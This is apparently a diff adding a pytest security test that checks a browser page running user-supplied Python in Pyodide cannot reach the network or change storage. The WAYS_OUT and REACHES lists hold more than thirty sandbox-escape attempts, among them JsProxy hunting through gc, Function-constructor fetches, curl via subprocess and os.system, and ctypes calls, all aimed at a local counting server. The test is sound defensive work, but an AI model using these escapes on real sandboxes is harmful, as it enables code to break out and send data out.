@@ -3,7 +3,9 @@
 import json
 import os
 import zipfile
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from io import BytesIO
+from threading import Thread
 from urllib.parse import urlencode, urlsplit
 
 import re
@@ -234,3 +236,127 @@ def test_hostile_text_changes_nothing(asking, name):
         assert asking.page.evaluate(CHANGED) == before, text
     assert asking.foreign == []
     assert [problem for problem in asking.problems if "cannot be parsed" not in problem] == []
+
+
+GOT_JS = """
+import gc, sys
+for name in ("js", "pyodide_js", "_pyodide_core", "pyodide", "pyodide.ffi", "ctypes"):
+    sys.modules.pop(name, None)
+finders = [f for f in sys.meta_path if hasattr(f, "jsproxies")]
+proxies = [o for o in gc.get_objects() if type(o).__name__ == "JsProxy"]
+proxies += [p for f in finders for p in f.jsproxies.values()]
+try:
+    import js
+    proxies.append(js)
+except BaseException:
+    pass
+def each(action):
+    said = []
+    for proxy in proxies:
+        try:
+            said.append(action(proxy))
+        except BaseException as error:
+            said.append(repr(error)[:80])
+    return said or "nothing to try"
+"""
+REACHES = [
+    "proxy.fetch(URL)", "proxy.XMLHttpRequest.new().open('GET', URL)", "proxy.WebSocket.new(WS)",
+    "proxy.EventSource.new(URL)", "proxy.importScripts(URL)", "proxy.eval(f'fetch(\"{URL}\")')",
+    "proxy.Function.new(f'fetch(\"{URL}\")')()", "proxy.Worker.new(URL)", "proxy.loadPackage(URL)",
+    "proxy.constructor.constructor(f'return fetch(\"{URL}\")')()", "proxy.runPython('import js')",
+    "proxy.constructor.constructor(f'return import(\"{URL}\")')()", "proxy.indexedDB.open('mine')",
+    "proxy.caches.open('mine')", "proxy.BroadcastChannel.new('x').postMessage('x')",
+    "proxy.postMessage('forged')", "proxy.navigator.storage.getDirectory()", "proxy.FS.mkdir('/m')",
+    "proxy.FS.mount(proxy.FS.filesystems.IDBFS, {}, '/m')", "proxy.FS.syncfs(False, print)",
+    "proxy.setTimeout(f'fetch(\"{URL}\")', 0)", "proxy.FontFace.new('x', f'url({URL})').load()",
+    "proxy.Object.getPrototypeOf(proxy).constructor.constructor('return self')().fetch(URL)",
+    "proxy.WebTransport.new(URL)", "proxy.location.assign(URL)", "proxy.open(URL)",
+]  # fmt: skip
+WAYS_OUT = [f"{GOT_JS}\nfound = each(lambda proxy: {reach})" for reach in REACHES] + [
+    "import urllib.request\nurllib.request.urlopen(URL)",
+    "import http.client\nhttp.client.HTTPConnection(URL[7:]).request('GET', '/')",
+    "import socket\nsocket.create_connection(('127.0.0.1', int(URL.rsplit(':', 1)[1])))",
+    "import subprocess\nsubprocess.run(['curl', URL])",
+    "import os\nos.system('curl ' + URL)",
+    "import webbrowser\nwebbrowser.open(URL)",
+    "import pyodide.http\npyodide.http.open_url(URL)",
+    "import pyodide.code\npyodide.code.run_js('fetch')",
+    "import js\njs.fetch(URL)",
+    "import pyodide_js\npyodide_js.loadPackage(URL)",
+    "import ctypes\nctypes.CDLL(None).emscripten_run_script(b'1')",
+    "import _ctypes\n_ctypes.dlopen('', 0)",
+    "import importlib\nimportlib.reload(importlib.import_module('js')).fetch(URL)",
+]
+RUNS_ANYTHING = """
+import json
+def reply(question):
+    names = {"URL": "@URL@", "WS": "@URL@".replace("http", "ws")}
+    try:
+        exec(json.loads(question)["f"], names)
+        return json.dumps({"refused": "found: " + repr(names.get("found"))[:1500]})
+    except BaseException as error:
+        return json.dumps({"refused": "raised: " + repr(error)[:1500]})
+"""
+
+
+@pytest.fixture
+def elsewhere():
+    """Serve at another address, which anybody may ask, and note who does."""
+    hits = []
+
+    class Counter(BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_OPTIONS = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Counter) as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", hits
+        server.shutdown()
+
+
+STORED = """async () => [
+  (await indexedDB.databases()).length, (await caches.keys()).length, localStorage.length,
+  (await navigator.storage.estimate()).usage,
+].join()"""
+
+
+@runs_python
+def test_python_that_means_ill_gets_nothing_out(asking, elsewhere):
+    url, hits = elsewhere
+    archive = BytesIO()
+    with zipfile.ZipFile(archive, "w") as hostile:
+        hostile.writestr("asked.py", RUNS_ANYTHING.replace("@URL@", url))
+    asking.page.context.route("**/ask.zip", lambda route: route.fulfill(body=archive.getvalue()))
+    asking.open()
+    asking.page.evaluate("url => fetch(url).catch(() => 0)", url)
+    assert hits == [], "the page itself is not to ask others"
+    before = asking.page.evaluate(STORED)
+    asking.page.locator("#ask-formula").evaluate("field => field.removeAttribute('maxlength')")
+    said = {}
+    for number, code in enumerate(WAYS_OUT):
+        requests = len(asking.requests)
+        asking.ask(formula="1", variable="X")
+        asking.wait("failed")
+        asking.page.evaluate(
+            "code => { const field = document.getElementById('ask-formula');"
+            "Object.defineProperty(field, 'value', { value: code, configurable: true }); }",
+            code,
+        )
+        asking.page.locator("#ask-button").click()
+        said[code[-70:]] = asking.wait("failed")
+        asking.page.evaluate("delete document.getElementById('ask-formula').value")
+        assert number == 0 or len(asking.requests) == requests, code
+    asking.page.wait_for_timeout(1000)
+    assert hits == []
+    assert len(said) >= 30
+    assert asking.page.evaluate(STORED) == before
+    assert asking.page.locator("#ask-status").inner_text() != "forged"
+    print(json.dumps(said, indent=1))
